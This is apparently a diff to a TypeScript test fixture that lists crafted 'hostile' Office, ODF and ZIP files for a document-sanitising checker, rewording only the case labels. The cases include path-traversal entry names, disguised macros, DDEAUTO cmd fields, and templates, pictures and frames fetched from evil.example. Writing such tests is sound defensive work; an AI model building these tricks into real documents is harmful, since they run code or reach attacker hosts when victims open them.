@@ -30,7 +30,7 @@ function withBytes(file: Buffer, at: number, bytes: Buffer): Buffer {
   return grown;
 }
 const directoryStart = (file: Buffer): number => file.readUInt32LE(file.length - 6);
-/** A second entry of a file under another name, both with the same bytes. */
+/** A second entry for a file under another name, sharing its bytes. */
 function listedTwice(): Buffer {
   const file = plain();
   const start = directoryStart(file);
@@ -51,16 +51,16 @@ export const parts = (change: (parts: Record<string, string | Buffer>) => Parts)
 const types = (types: string): Buffer => ooxml('docx', { types });
 export const utf16 = (text: string): Buffer => Buffer.from(`\uFEFF${text}`, 'utf16le');
 
-/** Documents that run something, or are two things at once, each with its own trick. */
+/** Documents that run something or are two things at once, each in a different way. */
 export const HOSTILE: [string, () => Buffer][] = [
-  ['a count one too small, macros behind it', () => falseCount(-1)],
+  ['a count one too small, hiding macros', () => falseCount(-1)],
   [
     'a count of one',
     () => changed(falseCount(0), (file) => [8, 10].map((at) => file.writeUInt16LE(1, file.length - 22 + at))),
   ],
   ['a count one too large', () => falseCount(1)],
   [
-    'a count of none',
+    'a count of zero',
     () => changed(plain(), (file) => [8, 10].map((at) => file.writeUInt16LE(0, file.length - 22 + at))),
   ],
   ['two counts', () => changed(plain(), (file) => file.writeUInt16LE(1, file.length - 14))],
@@ -70,8 +70,8 @@ export const HOSTILE: [string, () => Buffer][] = [
   ],
   ['another disk', () => changed(plain(), (file) => file.writeUInt16LE(1, file.length - 18))],
   ['bytes before it', () => Buffer.concat([Buffer.from('PK\x03\x04'), plain()])],
-  ['bytes before it, counted', () => withBytes(plain(), 0, Buffer.from('MZ program'))],
-  ['bytes behind it', () => Buffer.concat([plain(), Buffer.from('x')])],
+  ['bytes before it, with adjusted offsets', () => withBytes(plain(), 0, Buffer.from('MZ program'))],
+  ['bytes after it', () => Buffer.concat([plain(), Buffer.from('x')])],
   [
     'bytes between file and directory',
     () => {
@@ -86,7 +86,10 @@ export const HOSTILE: [string, () => Buffer][] = [
       return withBytes(file, directoryStart(file), officeZip({ 'word/vbaProject.bin': OLE }).subarray(0, 60));
     },
   ],
-  ['another end in its comment', () => officeZip(ooxmlParts('docx'), { comment: `PK\x05\x06${'\0'.repeat(18)}` })],
+  [
+    'another end record in its comment',
+    () => officeZip(ooxmlParts('docx'), { comment: `PK\x05\x06${'\0'.repeat(18)}` }),
+  ],
   [
     'another archive in its comment',
     () =>
@@ -97,15 +100,15 @@ export const HOSTILE: [string, () => Buffer][] = [
       }),
   ],
   [
-    'a wide end that says something else',
+    'a contradicting 64-bit end record',
     () => changed(ooxml('docx', {}, { zip64: true }), (file) => file.writeUInt32LE(1, file.length - 22 - 20 - 56 + 32)),
   ],
   [
-    'a wide end that lies elsewhere',
+    'a 64-bit end record elsewhere',
     () => changed(ooxml('docx', {}, { zip64: true }), (file) => file.writeUInt32LE(5, file.length - 22 - 20 + 8)),
   ],
   [
-    'sizes left to a wide field that is not there',
+    'sizes that refer to a missing 64-bit field',
     () => changed(plain(), (file) => file.writeUInt32LE(0xffffffff, entryAt(file) + 20)),
   ],
   ['a name that differs in both places', () => changed(plain(), (file) => file.write('X', 30, 'latin1'))],
@@ -115,21 +118,21 @@ export const HOSTILE: [string, () => Buffer][] = [
   ['masked names', () => officeZip(ooxmlParts('docx'), { flags: 0x2000 })],
   ['a second name for a file', () => officeZip(ooxmlParts('docx'), { extra: Buffer.from([0x75, 0x70, 1, 0, 0x61]) })],
   ['one file listed twice', () => listedTwice()],
-  ['a name twice, but for capitals', () => twoNames('word/a.xml', 'word/A.xml')],
-  ['a path out of it', () => twoNames('../evil.xml', 'b')],
-  ['a path of Windows', () => twoNames('word\\a.xml', 'b')],
-  ['a path from the root', () => twoNames('/etc/passwd', 'b')],
+  ['two names that differ only in case', () => twoNames('word/a.xml', 'word/A.xml')],
+  ['a path to a parent folder', () => twoNames('../evil.xml', 'b')],
+  ['a Windows path', () => twoNames('word\\a.xml', 'b')],
+  ['an absolute path', () => twoNames('/etc/passwd', 'b')],
   ['a NUL in a name', () => twoNames('word/a.xml\0.png', 'b')],
   ['vbaProject.bin', () => ooxml('docx', { parts: { 'word/vbaProject.bin': OLE } })],
   ['vbaProject.bin in capitals', () => ooxml('docx', { parts: { 'word/VBAPROJECT.BIN': 'x' } })],
   ['macros under another name', () => ooxml('docx', { parts: { 'word/printer.bin': OLE } })],
-  ['macros as a picture', () => ooxml('docx', { parts: { 'word/media/image1.png': OLE } })],
+  ['macros named as a picture', () => ooxml('docx', { parts: { 'word/media/image1.png': OLE } })],
   ['macros by their type alone', () => types(`<Override PartName="/word/x.dat" ContentType="${VBA_TYPE}"/>`)],
   [
-    'macros by their type, in letters of their own',
+    'macros by type, with a character reference',
     () => types(`<Override PartName="/word/x.dat" ContentType="application/vnd.ms-office.vb&#97;Project"/>`),
   ],
-  ['macros by an ending', () => types(`<Default Extension="bin" ContentType="${VBA_TYPE}"/>`)],
+  ['macros by extension', () => types(`<Default Extension="bin" ContentType="${VBA_TYPE}"/>`)],
   [
     'a main part with macros',
     () =>
@@ -164,22 +167,25 @@ export const HOSTILE: [string, () => Buffer][] = [
       ooxml('docx', { parts: { 'word/_rels/a.xml.rels': '<?xml version="1.0" encoding="UTF-7"?><Relationships/>' } }),
   ],
   [
-    'macro sheets of Excel 4',
+    'Excel 4 macro sheets',
     () =>
       ooxml('xlsx', {
         types: '<Override PartName="/xl/macrosheets/s.xml" ContentType="application/vnd.ms-excel.macrosheet+xml"/>',
       }),
   ],
   [
-    'macro sheets of Excel 4 by relation',
+    'Excel 4 macro sheets by relation',
     () =>
       ooxml('xlsx', { relations: [['http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet', 'x.xml']] }),
   ],
   ['a template from the web', () => related('attachedTemplate', 'https://evil.example/t.dotm')],
   ['a template from another computer', () => related('attachedTemplate', '\\\\evil.example\\share\\t.dotm')],
-  ['a template by file, from another computer', () => related('attachedTemplate', 'file://evil.example/t.dotm')],
-  ['a template by file, hidden', () => related('attachedTemplate', 'file:///%5C%5Cevil.example/t.dotm')],
-  ['a template that is not called external', () => related('attachedTemplate', 'https://evil.example/t.dotm', false)],
+  ['a template by file URL, from another computer', () => related('attachedTemplate', 'file://evil.example/t.dotm')],
+  ['a template by file URL, escaped', () => related('attachedTemplate', 'file:///%5C%5Cevil.example/t.dotm')],
+  [
+    'an external template not marked as external',
+    () => related('attachedTemplate', 'https://evil.example/t.dotm', false),
+  ],
   ['a picture from the web', () => related('image', 'http://evil.example/pixel.png')],
   ['an object from the web', () => related('oleObject', 'mhtml:http://evil.example/x.html!x')],
   ['a frame', () => related('frame', 'https://evil.example')],
@@ -196,14 +202,14 @@ export const HOSTILE: [string, () => Buffer][] = [
       }),
   ],
   ['an embedded program', () => ooxml('docx', { parts: { 'word/embeddings/a.dat': 'MZ\x90' } })],
-  ['an archive within', () => ooxml('docx', { parts: { 'word/embeddings/a.dat': officeZip({ a: 'b' }) } })],
+  ['an embedded archive', () => ooxml('docx', { parts: { 'word/embeddings/a.dat': officeZip({ a: 'b' }) } })],
   [
-    'a document with macros within',
+    'an embedded document with macros',
     () =>
       ooxml('docx', { parts: { 'word/embeddings/a.xlsx': ooxml('xlsx', { parts: { 'xl/vbaProject.bin': OLE } }) } }),
   ],
   [
-    'documents within documents',
+    'deeply nested documents',
     () => {
       let inner = ooxml('docx');
       for (let n = 0; n < 4; n += 1) inner = ooxml('docx', { parts: { 'word/embeddings/a.docx': inner } });
@@ -216,11 +222,11 @@ export const HOSTILE: [string, () => Buffer][] = [
   ['DDE in a header', () => ooxml('docx', { parts: { 'word/header1.xml': field('DDEAUTO cmd') } })],
   ['DDE in UTF-16', () => ooxml('docx', { parts: { 'word/header1.xml': utf16(field('DDEAUTO cmd')) } })],
   [
-    'a picture that a field fetches',
+    'a field that fetches a picture',
     () => ooxml('docx', { body: field('INCLUDEPICTURE "http://evil.example/p.png"') }),
   ],
   [
-    'DDE of Excel',
+    'DDE in Excel',
     () =>
       ooxml('xlsx', {
         parts: {
@@ -230,7 +236,7 @@ export const HOSTILE: [string, () => Buffer][] = [
       }),
   ],
   [
-    'a query of the web',
+    'a web query',
     () =>
       ooxml('xlsx', {
         parts: {
@@ -251,11 +257,11 @@ export const HOSTILE: [string, () => Buffer][] = [
       })),
   ],
   [
-    'two lists of types for one part',
+    'two content types for one part',
     () => types('<Override PartName="/word/document.xml" ContentType="application/xml"/>'),
   ],
   [
-    'a part longer than it says',
+    'a part longer than stated',
     () =>
       changed(ooxml('docx'), (file) => {
         const at = entryAt(file);
@@ -267,7 +273,7 @@ export const HOSTILE: [string, () => Buffer][] = [
   ['Python', () => odf('text', '', { 'Scripts/python/a.py': 'import os' })],
   ['a dialog', () => odf('text', '', { 'Dialogs/a.xml': '<d/>' })],
   [
-    'a macro on opening',
+    'a macro that runs on opening',
     () =>
       odf(
         'text',
@@ -282,14 +288,14 @@ export const HOSTILE: [string, () => Buffer][] = [
     () => odf('text', '<text:section-source xlink:href="file://evil.example/a.odt"/>'),
   ],
   [
-    'DDE of LibreOffice',
+    'DDE in LibreOffice',
     () => odf('spreadsheet', '<table:dde-link><office:dde-source office:dde-application="cmd"/></table:dde-link>'),
   ],
   ['an OLE object in ODF', () => odf('text', '', { 'Object 1': OLE })],
   ['an encrypted ODF', () => odf('text', '', { 'META-INF/manifest2.xml': '<manifest:encryption-data/>' })],
   ['ODF and Office at once', () => odf('text', '', { '[Content_Types].xml': '<Types/>' })],
   [
-    'a type of ODF that is not the first',
+    'an ODF type that isn’t first',
     () => officeZip({ ...ooxmlParts('docx'), mimetype: 'application/vnd.oasis.opendocument.text' }),
   ],
 ];
